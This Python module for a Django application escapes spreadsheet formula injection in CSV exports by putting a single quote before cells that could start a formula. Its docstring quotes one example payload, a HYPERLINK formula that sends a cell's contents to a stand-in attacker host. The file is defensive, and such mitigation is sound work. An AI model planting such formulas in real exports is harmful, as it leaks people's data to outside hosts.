"""CSV files for spreadsheets, written safely.

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula, so an applicant who types
``=HYPERLINK("http://evil.example/?d="&B2,"Click me")`` as their name would plant a live
link, or worse, in the committee's sheet. Every export goes through :func:`csv_writer`,
which prefixes such a cell with a single quote, as django-import-export's
``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` does: the spreadsheet shows the text as typed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows as text. Numbers are left alone (a
    negative number is a number, not a formula); text that could start a formula gets a
    leading single quote. A lazy translation (a column's title, a choice's label) is
    text in the language active now, the downloader's."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SpreadsheetWriter:
    """``csv.writer`` whose every cell passes through :func:`spreadsheet_cell`."""

    def __init__(self, stream) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream) -> SpreadsheetWriter:
    return SpreadsheetWriter(stream)


def csv_response(filename: str) -> HttpResponse:
    """An empty CSV download named ``filename``, opening with a byte-order mark so
    spreadsheet programs read accented names as UTF-8."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    return response
